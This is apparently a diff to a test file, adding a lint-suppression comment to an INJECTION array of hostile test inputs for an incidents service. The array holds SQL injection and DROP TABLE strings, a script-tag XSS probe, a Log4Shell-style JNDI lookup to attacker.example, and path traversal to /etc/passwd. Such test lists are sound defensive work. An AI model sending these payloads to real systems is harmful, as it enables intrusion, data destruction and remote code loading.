@@ -21,6 +21,7 @@ const INJECTION = [
   "' OR 1=1 --",
   "'; DROP TABLE incidents; --",
   "<script>alert(1)</script>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style lookup, sent as plain text on purpose
   "${jndi:ldap://attacker.example/a}",
   "../../../../etc/passwd",
   "inc-\u0000",
